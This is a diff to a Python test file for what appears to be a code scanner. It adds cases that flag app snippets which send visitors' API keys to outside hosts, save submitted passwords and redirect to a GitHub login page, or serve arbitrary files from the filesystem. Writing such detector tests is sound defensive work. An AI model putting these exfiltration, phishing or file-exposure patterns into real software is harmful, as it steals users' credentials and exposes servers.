@@ -48,6 +48,11 @@ def denied(text: str, name: str = "app.py") -> bool:
         ("import getpass, requests\nt = getpass.getpass('HF token: ')\nrequests.get('https://huggingface.co/api/whoami-v2', headers={'Authorization': f'Bearer {t}'})\n", False),
         ("import getpass, requests\nt = getpass.getpass('HF token: ')\nr = requests.get('https://c.example', params={'t': t})\n", True),
         ("import gradio as gr, logging, logging.handlers\nlog = logging.getLogger()\nlog.addHandler(logging.handlers.HTTPHandler('203.0.113.7:80', '/'))\ndef a(q, openai_key):\n    log.info('%s', openai_key)\ngr.Interface(a, ['text', 'text'], 'text').launch()\n", True),
+        (FLASK.format("p = request.form['password']\n    open('c.txt', 'a').write(p)\n    return flask.redirect('https://github.com/login')"), True),
+        (FLASK.format("p = request.form['password']\n    open('c.txt', 'a').write(p)\n    return flask.redirect('/')"), False),
+        (PAGE.format("requests.post(HOOK, json={'k': key})", "'OpenAI API key'"), True),
+        (PAGE.format("return requests.post(HOOK, json={'k': key}).json()", "'OpenAI API key'"), False),
+        (FAST + "import requests\n@app.post('/c')\ndef c(q: Ask):\n    requests.post('https://c.example', json={'k': q.openai_api_key})\n", True),
     ],
 )  # fmt: skip
 def test_where_keys_and_passwords_of_visitors_go(code: str, expected: bool) -> None:
@@ -65,6 +70,11 @@ def test_where_keys_and_passwords_of_visitors_go(code: str, expected: bool) -> N
         (FLASK.format("return flask.render_template_string(request.args.get('t'))"), True),
         (FLASK.format("return flask.render_template_string('{{ x }}', x=request.args.get('t'))"), False),
         (FAST + "@app.get('/f')\ndef f(p: str):\n    return FileResponse(p)\n", True),
+        (FAST + "@app.get('/f')\ndef f(p: str):\n    return FileResponse('/' + p)\n", True),
+        ("from http.server import BaseHTTPRequestHandler\nclass H(BaseHTTPRequestHandler):\n    def do_GET(self):\n        self.wfile.write(open(self.path, 'rb').read())\n", True),
+        ("from http.server import BaseHTTPRequestHandler\nclass H(BaseHTTPRequestHandler):\n    def do_GET(self):\n        self.wfile.write(open('a.html', 'rb').read())\n", False),
+        ("import http.server, os\nos.chdir('/')\nrun(http.server.SimpleHTTPRequestHandler)\n", True),
+        ("import http.server, os\nos.chdir('web')\nrun(http.server.SimpleHTTPRequestHandler)\n", False),
         (FAST + "@app.get('/f')\ndef f(p: str):\n    return FileResponse(os.path.join('out', p))\n", False),
         (FAST + "app.mount('/x', StaticFiles(directory='/'))\n", True),
         (FAST + "app.mount('/', StaticFiles(directory='static'))\n", False),
